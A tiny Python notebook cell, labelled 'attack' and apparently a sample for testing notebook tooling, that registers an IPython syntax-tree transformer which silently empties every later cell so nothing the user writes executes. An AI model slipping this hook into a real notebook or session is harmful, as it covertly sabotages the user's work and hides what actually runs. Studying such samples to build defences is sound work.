# Empties every later cell with a transformer of syntax trees.
# %% attack
import ast


class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[], type_ignores=[])


get_ipython().ast_transformers.append(Empty())
